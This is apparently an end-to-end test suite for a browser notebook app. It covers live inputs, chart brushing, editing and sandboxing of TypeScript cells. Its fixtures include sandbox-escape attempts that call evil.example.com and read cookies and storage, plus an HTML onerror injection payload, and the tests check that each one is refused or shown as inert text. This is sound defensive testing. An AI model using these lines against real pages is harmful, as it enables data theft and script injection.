// Live notebooks in the browser: moving an input re-runs only what depends on it (the chart is
// redrawn); ts cells run in the sandbox Worker, return rows later SQL queries, cannot reach the
// network or the page, and an endless loop is stopped without losing the page.
import { describe, expect, it } from "vitest";
import { existsSync } from "node:fs";
import { resolve } from "node:path";
import type { Page } from "playwright-core";
import { ENGINE_TIMEOUT, dist, openFromDisk, useApp } from "./app-fixture";
import { codeOf } from "./code";
import { BARS, brushBars } from "./brush";

const app = useApp();
const fence = "```";

const LIVE = `---
notebook: 1
title: Live inputs
---

# Above the line: \${above[0].n} of 100 values

${fence}input threshold
{ "type": "range", "label": "Minimum", "min": 0, "max": 100, "step": 1, "value": 50 }
${fence}

${fence}sql above
SELECT count(*)::INTEGER AS n FROM range(100) t(x) WHERE x >= \${threshold}
${fence}

${fence}sql buckets
SELECT (x // 10)::INTEGER AS bucket, count(*)::INTEGER AS n FROM range(100) t(x) WHERE x >= \${threshold} GROUP BY 1 ORDER BY 1
${fence}

${fence}chart bucket_chart data=buckets
{ "mark": "bar", "encoding": { "x": { "field": "bucket", "type": "ordinal" }, "y": { "field": "n", "type": "quantitative" } } }
${fence}

${fence}sql independent
SELECT random() AS r
${fence}

${fence}ts squares
const rows: { i: number; sq: number }[] = [];
for (let i = 1; i <= threshold / 10; i++) rows.push({ i, sq: i * i });
return rows;
${fence}

${fence}sql sum_squares
SELECT sum(sq)::INTEGER AS total, count(*)::INTEGER AS n FROM squares
${fence}
`;

/** Sets a range input the way a drag does: a new value and an `input` event. */
async function moveRange(page: Page, cell: string, value: number): Promise<void> {
  await page.locator(`[data-cell="${cell}"] input[type="range"]`).evaluate((el, v) => {
    const input = el as HTMLInputElement;
    input.value = String(v);
    input.dispatchEvent(new Event("input", { bubbles: true }));
  }, value);
}

const cellText = (page: Page, cell: string, role: string) =>
  page.locator(`[data-cell="${cell}"] [data-role="${role}"]`).first().textContent();
const firstValue = (page: Page, cell: string) =>
  page.locator(`[data-cell="${cell}"] .grid-row .td`).first().textContent();

async function openTrusted(ob: { page: Page }, name: string, text: string): Promise<void> {
  await openFromDisk(ob as never, name, text);
  await ob.page.locator('[data-action="trust"]').click();
}

describe("input cells", () => {
  it("moving a range re-runs the SQL and chart that use it (the chart is redrawn), and leaves independent cells alone", async () => {
    const ob = await app.open();
    const { page } = ob;
    await openTrusted(ob, "live.md", LIVE);
    await page.locator('[data-cell="sum_squares"][data-state="done"]').waitFor({ timeout: ENGINE_TIMEOUT });
    const chart = page.frameLocator('[data-cell="bucket_chart"] iframe[data-role="chart"]');
    await expect.poll(() => chart.locator(".mark-rect path").count(), { timeout: 30_000 }).toBe(5);
    expect(await firstValue(page, "above")).toBe("50");
    expect(await page.locator('[data-cell="threshold"] [data-role="input-value"]').textContent()).toBe("50");
    await expect.poll(() => page.locator(".prose h1").first().textContent()).toBe("Above the line: 50 of 100 values");
    const independent = await firstValue(page, "independent");
    await page.screenshot({ path: "/tmp/clientbook-live-before.png" });

    // A re-run changes the cell's state, never its code: the highlighted SQL is not drawn again.
    await page.evaluate(() => {
      const code = document.querySelector('[data-cell="above"] [data-role="static-code"]')!;
      const w = window as unknown as { __codeDrawn: number };
      w.__codeDrawn = 0;
      new MutationObserver((records) => (w.__codeDrawn += records.length)).observe(code, { childList: true });
    });
    await moveRange(page, "threshold", 80);
    expect(await page.locator('[data-cell="threshold"] [data-role="input-value"]').textContent()).toBe("80");
    await expect.poll(() => firstValue(page, "above"), { timeout: 30_000 }).toBe("20");
    await expect.poll(() => chart.locator(".mark-rect path").count(), { timeout: 30_000 }).toBe(2);
    await expect.poll(() => page.locator(".prose h1").first().textContent()).toBe("Above the line: 20 of 100 values");
    await expect
      .poll(() => firstValue(page, "sum_squares"), { timeout: 30_000 })
      .toBe(String(1 + 4 + 9 + 16 + 25 + 36 + 49 + 64));
    await page.locator('[data-cell][data-state="running"]').first().waitFor({ state: "detached", timeout: 30_000 });
    expect(await firstValue(page, "independent")).toBe(independent);
    expect(await page.evaluate(() => (window as unknown as { __codeDrawn: number }).__codeDrawn)).toBe(0);
    expect(await page.locator('[data-cell="independent"]').getAttribute("data-stale")).toBeNull();
    expect(await page.locator("[data-stale=true]").count()).toBe(0);
    await page.locator('[data-cell="threshold"]').scrollIntoViewIfNeeded();
    await page.screenshot({ path: "/tmp/clientbook-live-after.png" });

    // The new value is written into the notebook, so saving keeps it.
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.locator('[data-action="save-notebook"]').click(),
    ]);
    const saved = await import("node:fs/promises").then((fs) => download.path().then((p) => fs.readFile(p, "utf8")));
    expect(saved).toContain('"value": 80');
  });

  it("shows out-of-date results as stale while they wait, and a superseded result never shows over a newer one", async () => {
    const ob = await app.open();
    const { page } = ob;
    const text = `---
notebook: 1
title: Race
---

${fence}input delay
{ "type": "range", "min": 1, "max": 3, "step": 1, "value": 3 }
${fence}

${fence}ts echo
// Value 1 is slow, the others fast: a slow run that is overtaken must never win.
await new Promise((r) => setTimeout(r, delay === 1 ? 2500 : 10));
return delay * 100;
${fence}
`;
    await openTrusted(ob, "race.md", text);
    await expect.poll(() => cellText(page, "echo", "value"), { timeout: ENGINE_TIMEOUT }).toBe("300");
    // When the cell turns out of date (its data-stale, at once) and when the page shows it (the badge).
    await page.evaluate(() => {
      const el = document.querySelector('[data-cell="echo"]')!;
      const marks: Record<string, number> = ((window as unknown as { __marks: object }).__marks = {});
      new MutationObserver(() => {
        if (el.hasAttribute("data-stale")) marks.stale ??= performance.now();
        if (el.querySelector('[data-role="stale"]')) marks.badge ??= performance.now();
      }).observe(el, { attributes: true, subtree: true, childList: true });
    });
    await moveRange(page, "delay", 1);
    // While the slow run is on its way the old result is marked out of date: shown once the wait has lasted.
    await page.locator('[data-cell="echo"][data-stale="true"]').waitFor({ timeout: 10_000 });
    await page.locator('[data-cell="echo"].waiting [data-role="stale"]').waitFor({ timeout: 10_000 });
    const marks = await page.evaluate(() => (window as unknown as { __marks: Record<string, number> }).__marks);
    expect(marks.badge - marks.stale).toBeGreaterThanOrEqual(250);
    await page.screenshot({ path: "/tmp/clientbook-live-stale.png" });
    await page.waitForTimeout(500);
    await moveRange(page, "delay", 2);
    await expect.poll(() => cellText(page, "echo", "value"), { timeout: 10_000 }).toBe("200");
    // Long after the slow run would have finished, the newer value is still the one shown.
    await page.waitForTimeout(3000);
    expect(await cellText(page, "echo", "value")).toBe("200");
    expect(await page.locator('[data-cell="echo"]').getAttribute("data-stale")).toBeNull();
  });
});

const CONTROLS = `---
notebook: 1
title: Controls
---

${fence}sql regions
SELECT * FROM (VALUES ('North'), ('South'), ('East')) t(place)
${fence}

${fence}input region
{ "type": "select", "label": "Region", "options_from": "regions", "value": "North" }
${fence}

${fence}input picked
{ "type": "multiselect", "options": ["a", "b", "c"], "value": ["a"] }
${fence}

${fence}input count
{ "type": "number", "min": 0, "max": 10, "value": 3 }
${fence}

${fence}input period
{ "type": "daterange", "min": "2024-01-01", "max": "2024-12-31", "value": ["2024-02-01", "2024-03-01"] }
${fence}

${fence}input who
{ "type": "text", "value": "Ada" }
${fence}

${fence}input on
{ "type": "checkbox", "label": "Include returns", "value": false }
${fence}

${fence}ts summary
return [region, picked.join("+"), count, period.join(".."), who, on].join(" | ");
${fence}
`;

describe("every kind of input", () => {
  it("renders as a real control, and changing each one re-runs the cell that reads it", async () => {
    const ob = await app.open();
    const { page } = ob;
    await openTrusted(ob, "controls.md", CONTROLS);
    const summary = () => cellText(page, "summary", "value");
    await expect
      .poll(summary, { timeout: ENGINE_TIMEOUT })
      .toBe("North | a | 3 | 2024-02-01..2024-03-01 | Ada | false");
    // Options from a sql cell.
    expect(await page.locator('[data-cell="region"] select option').allTextContents()).toEqual([
      "North",
      "South",
      "East",
    ]);
    await page.screenshot({ path: "/tmp/clientbook-controls.png", fullPage: true });

    await page.locator('[data-cell="region"] select').selectOption({ label: "East" });
    await expect.poll(summary, { timeout: 10_000 }).toMatch(/^East \| a \|/);
    await page.locator('[data-cell="picked"] label', { hasText: "c" }).locator("input").check();
    await expect.poll(summary, { timeout: 10_000 }).toMatch(/^East \| a\+c \|/);
    await page.locator('[data-cell="count"] input[type="number"]').fill("7");
    await expect.poll(summary, { timeout: 10_000 }).toMatch(/\| 7 \|/);
    await page.locator('[data-cell="period"] input[type="date"]').nth(1).fill("2024-06-30");
    await expect.poll(summary, { timeout: 10_000 }).toMatch(/2024-02-01\.\.2024-06-30/);
    await page.locator('[data-cell="who"] input[type="text"]').fill("Grace");
    await expect.poll(summary, { timeout: 10_000 }).toMatch(/\| Grace \|/);
    await page.locator('[data-cell="on"] input[type="checkbox"]').check();
    await expect.poll(summary, { timeout: 10_000 }).toBe("East | a+c | 7 | 2024-02-01..2024-06-30 | Grace | true");
    await page.screenshot({ path: "/tmp/clientbook-controls-changed.png", fullPage: true });
  });
});

const ESCAPE = `---
notebook: 1
title: Escape attempts
---

${fence}ts escape
const attempts: Record<string, () => unknown> = {
  fetch: () => fetch("https://evil.example.com/fetch"),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", "https://evil.example.com/xhr"); x.send(); },
  websocket: () => new WebSocket("wss://evil.example.com/ws"),
  eventsource: () => new EventSource("https://evil.example.com/es"),
  "importScripts": () => (self as any).importScripts("https://evil.example.com/x.js"),
  worker: () => new Worker("https://evil.example.com/w.js"),
  document: () => (globalThis as any).document.cookie,
  parent: () => (globalThis as any).parent.document.body.innerHTML,
  storage: () => (globalThis as any).localStorage.getItem("x"),
  indexedDB: () => indexedDB.open("x"),
};
const out: Record<string, string> = {};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    await attempt();
    out[name] = "allowed";
  } catch {
    out[name] = "refused";
  }
}
return out;
${fence}

${fence}ts direct
// a comment line
const data = await fetch("https://evil.example.com/direct");
return data.status;
${fence}
`;

describe("ts cells", () => {
  it("cannot reach the network, the page or storage; the error points at the line and column", async () => {
    const ob = await app.open();
    const { page } = ob;
    await openTrusted(ob, "escape.md", ESCAPE);
    await page.locator('[data-cell="escape"][data-state="done"]').waitFor({ timeout: ENGINE_TIMEOUT });
    const result = JSON.parse((await cellText(page, "escape", "value")) ?? "{}") as Record<string, string>;
    expect(Object.keys(result).length).toBe(10);
    expect(Object.entries(result).filter(([, v]) => v !== "refused")).toEqual([]);
    await page.locator('[data-cell="direct"][data-state="error"]').waitFor({ timeout: 30_000 });
    expect(await cellText(page, "direct", "cell-error")).toMatch(/fetch/);
    expect(await cellText(page, "direct", "error-position")).toMatch(/^Line 2, column \d+$/);
    await page.waitForTimeout(500);
    expect(ob.requests.filter((u) => u.includes("evil"))).toEqual([]);
    // The only frames are the sandboxes, scripts allowed and nothing else.
    expect(
      new Set(await page.locator("iframe").evaluateAll((els) => els.map((e) => e.getAttribute("sandbox")))),
    ).toEqual(new Set(["allow-scripts"]));
    await page.locator('[data-cell="direct"]').scrollIntoViewIfNeeded();
    await page.screenshot({ path: "/tmp/clientbook-ts-escape.png" });
  });

  it("an endless loop is stopped with the Stop button; the page stays responsive and other cells still run", async () => {
    const ob = await app.open();
    const { page } = ob;
    const text = `---
notebook: 1
title: Spin
---

${fence}ts spin
let n = 0;
while (true) n++;
${fence}

${fence}ts after
return 6 * 7;
${fence}
`;
    await openTrusted(ob, "spin.md", text);
    await page.locator('[data-cell="spin"][data-state="running"]').waitFor({ timeout: ENGINE_TIMEOUT });
    const stop = page.locator('[data-action="stop"]');
    await stop.waitFor();
    await page.waitForTimeout(500);
    // The page answers while the loop spins in the Worker.
    const started = Date.now();
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    expect(Date.now() - started).toBeLessThan(1000);
    await page.screenshot({ path: "/tmp/clientbook-spin.png" });
    await stop.click();
    await expect
      .poll(() => page.locator('[data-cell="spin"]').getAttribute("data-state"), { timeout: 10_000 })
      .toBe("stopped");
    expect(await page.locator('[data-cell="spin"] .cell-head .status').textContent()).toBe("Stopped");
    await expect.poll(() => stop.count()).toBe(0);
    await page.locator('[data-cell="after"] [data-action="run-cell"]').click();
    await expect.poll(() => cellText(page, "after", "value"), { timeout: 30_000 }).toBe("42");
    expect(await page.locator('[data-cell="after"]').getAttribute("data-state")).toBe("done");
  });

  it("a TypeScript error at run time points at its line and column in the cell", async () => {
    const ob = await app.open();
    const { page } = ob;
    const text = `---
notebook: 1
title: Errors
---

${fence}ts broken
const rows: { x: number }[] = [];
const first = rows[0];
return first.x;
${fence}
`;
    await openTrusted(ob, "broken.md", text);
    await page.locator('[data-cell="broken"][data-state="error"]').waitFor({ timeout: ENGINE_TIMEOUT });
    expect(await cellText(page, "broken", "error-position")).toBe("Line 3, column 14");
    expect(await cellText(page, "broken", "cell-error")).toMatch(/undefined/);
  });
});

describe("ts cell logs", () => {
  it("shows a ts cell's log lines under it as text: a line that looks like HTML stays text", async () => {
    const ob = await app.open();
    const { page } = ob;
    const text = `---\nnotebook: 1\ntitle: Logs\n---\n\n${fence}ts talk\nlog("first line", 1);\nlog("<b>x</b>");\nreturn 2\n${fence}\n`;
    await openTrusted(ob, "logs.md", text);
    const block = page.locator('[data-cell="talk"] [data-role="cell-log"]');
    await block.waitFor({ timeout: ENGINE_TIMEOUT });
    expect(await block.evaluate((el) => el.tagName)).toBe("DETAILS");
    expect(await block.locator("pre").textContent()).toBe("first line 1\n<b>x</b>");
    // Text, never markup: no element was built from the logged line.
    expect(await block.locator("b").count()).toBe(0);
    // Collapsible: folding hides the lines.
    await block.locator("summary").click();
    expect(await block.locator("pre").isVisible()).toBe(false);
  });
});

describe("Markdown interpolation", () => {
  it("shows values as text: a value that looks like HTML, a link or emphasis stays text", async () => {
    const ob = await app.open();
    const { page } = ob;
    const text = `---\nnotebook: 1\ntitle: Values are text\n---\n\n${fence}sql hostile\nSELECT '<img src="https://evil.example.com/p.png" onerror="window.__pwned=1"> [click](https://evil.example.com/) **bold**' AS v\n${fence}\n\nValue: \${hostile[0].v}\n`;
    await openTrusted(ob, "values.md", text);
    const prose = page.locator(".prose", { hasText: "Value:" });
    await expect.poll(() => prose.textContent(), { timeout: ENGINE_TIMEOUT }).toContain("<img src=");
    await page.screenshot({ path: "/tmp/clientbook-interpolation.png" });
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await prose.textContent()).toContain("**bold**");
    // No image, no emphasis, and no link built from the data (GFM autolinks included).
    expect(await prose.locator("img, strong, a").evaluateAll((els) => els.map((e) => e.outerHTML))).toEqual([]);
    expect((await prose.textContent())?.trim()).toBe(
      'Value: <img src="https://evil.example.com/p.png" onerror="window.__pwned=1"> [click](https://evil.example.com/) **bold**',
    );
  });
});

describe("the ts cell editor", () => {
  it("highlights TypeScript, indents with Tab and undoes with Ctrl+Z", async () => {
    const ob = await app.open();
    const { page } = ob;
    await openFromDisk(
      ob,
      "edit.md",
      `---\nnotebook: 1\ntitle: Edit\n---\n\n${fence}ts answer\nconst x: number = 42;\nreturn x;\n${fence}\n`,
    );
    const editor = codeOf(page, "answer");
    await editor.waitFor();
    // Keywords and types get their own highlight classes: in the static code first, then in the editor that a
    // click mounts (its parser highlights once it has loaded: poll for the spans).
    expect(await page.locator('[data-cell="answer"] .static-line span[class^="hl-"]').count()).toBeGreaterThan(2);
    await page.locator('[data-cell="answer"] .static-line').last().click();
    await expect.poll(() => page.locator('[data-cell="answer"] .cm-line span').count()).toBeGreaterThan(2);
    await page.locator('[data-cell="answer"] .cm-line').last().click();
    await page.keyboard.press("End");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Tab");
    await page.keyboard.type("// note");
    await expect.poll(() => editor.textContent()).toContain("return x;  // note");
    await page.keyboard.press("Control+z");
    await expect.poll(() => editor.textContent()).not.toContain("// note");
  });
});

describe("notebooks/live-inputs.md", () => {
  it.skipIf(!existsSync(resolve(dist, "notebooks/live-inputs.md")))(
    "runs on open and re-runs when an input moves",
    async () => {
      const { page } = await app.open("?notebook=notebooks/live-inputs.md");
      await page.waitForSelector("body[data-engine=ready]", { timeout: ENGINE_TIMEOUT });
      const computing = page.locator("[data-cell][data-kind]:not([data-kind=markdown]):not([data-kind=code])");
      await expect.poll(() => computing.count(), { timeout: 30_000 }).toBeGreaterThan(2);
      await expect
        .poll(
          async () =>
            (await computing.evaluateAll((els) => els.map((e) => e.getAttribute("data-state")))).every(
              (s) => s === "done",
            ),
          { timeout: 90_000 },
        )
        .toBe(true);
      await page.screenshot({ path: "/tmp/clientbook-live-inputs.png" });
      // A ts cell that returns a Vega-Lite spec is drawn in a chart sandbox; prose shows live values.
      const tsCharts = page.locator('[data-kind="ts"] iframe[data-role="chart"]');
      if ((await tsCharts.count()) > 0) {
        await page
          .frameLocator('[data-kind="ts"] iframe[data-role="chart"]')
          .first()
          .locator("svg")
          .first()
          .waitFor({ timeout: 30_000 });
        await tsCharts.first().scrollIntoViewIfNeeded();
        await page.waitForTimeout(300);
        await page.screenshot({ path: "/tmp/clientbook-live-inputs-ts-chart.png" });
      }
      expect(await page.locator(".prose").allTextContents()).not.toContainEqual(expect.stringContaining("${"));
      const range = page.locator('[data-role="input-control"] input[type="range"]').first();
      if ((await range.count()) === 0) return;
      const name = await range.evaluate((el) => el.closest("[data-cell]")!.getAttribute("data-cell"));
      const max = Number(await range.getAttribute("max"));
      await moveRange(page, name!, max);
      await expect
        .poll(
          async () =>
            (
              await computing.evaluateAll((els) =>
                els.map((e) => e.getAttribute("data-state") + (e.getAttribute("data-stale") ?? "")),
              )
            ).every((s) => s === "done"),
          { timeout: 90_000 },
        )
        .toBe(true);
      await page.screenshot({ path: "/tmp/clientbook-live-inputs-moved.png" });
    },
  );
});

const BRUSH = `---
notebook: 1
title: Brush the months
---

${fence}sql orders
SELECT DATE '2024-01-01' + INTERVAL (i % 366) DAY AS order_date, 'C' || (i % 97) AS customer FROM range(3660) t(i)
${fence}

${fence}chart months data=orders
{ "mark": "bar", "width": 600,
  "params": [{ "name": "brush", "select": { "type": "interval", "encodings": ["x"] } }],
  "encoding": { "x": { "field": "order_date", "timeUnit": "yearmonth" }, "y": { "aggregate": "count" } } }
${fence}

${fence}sql picked
SELECT count(*)::INTEGER AS n, count(DISTINCT customer)::INTEGER AS customers FROM orders
WHERE order_date BETWEEN \${brush}[1]::DATE AND \${brush}[2]::DATE
${fence}
`;

describe("chart selections", () => {
  it("brushing months on a time axis re-runs the SQL reading the brush; cleared, it sees every row", async () => {
    const ob = await app.open();
    const { page } = ob;
    await openTrusted(ob, "brush.md", BRUSH);
    await page.locator('[data-cell="picked"][data-state="done"]').waitFor({ timeout: ENGINE_TIMEOUT });
    expect(await firstValue(page, "picked")).toBe("3660");
    const chart = page.frameLocator('[data-cell="months"] iframe[data-role="chart"]');
    const bars = chart.locator(BARS);
    await expect.poll(() => bars.count(), { timeout: 30_000 }).toBe(12);
    await page.locator('[data-cell="months"]').scrollIntoViewIfNeeded();
    const rendersBefore = await page.locator('[data-cell="months"]').getAttribute("data-render-count");

    // From just left of March's bar (late February) to the middle of April's: March and April start inside.
    await brushBars(page, chart, 2, 3);
    const april = (await bars.nth(3).boundingBox())!;
    await expect.poll(() => firstValue(page, "picked"), { timeout: 30_000 }).toBe(String(10 * (31 + 30)));
    await page.screenshot({ path: "/tmp/clientbook-brush.png" });
    // The chart itself did not run again (its view re-rendered for no new output), and the brush is still drawn.
    expect(await page.locator('[data-cell="months"]').getAttribute("data-render-count")).toBe(rendersBefore);
    const brush = chart.locator(".brush_brush path").first();
    expect((await brush.boundingBox())!.width).toBeGreaterThan(april.width);

    // Re-running the chart draws it again: the brush is put back, and its reader keeps its rows.
    await page.locator('[data-cell="months"] [data-action="run-cell"]').click();
    await page.locator('[data-cell="months"][data-state="done"]').waitFor({ timeout: 30_000 });
    await expect
      .poll(async () => (await brush.boundingBox())?.width ?? 0, { timeout: 30_000 })
      .toBeGreaterThan(april.width);
    await page.locator('[data-cell="picked"][data-state="done"]:not([data-stale])').waitFor({ timeout: 30_000 });
    expect(await firstValue(page, "picked")).toBe(String(10 * (31 + 30)));

    // A click away from the brush clears it: every row again.
    const june = (await bars.nth(5).boundingBox())!;
    await page.mouse.click(june.x + june.width / 2, april.y + april.height / 2);
    await expect.poll(() => firstValue(page, "picked"), { timeout: 30_000 }).toBe("3660");
    expect(await page.locator('[data-cell="picked"] [data-role="cell-error"]').count()).toBe(0);
  });
});
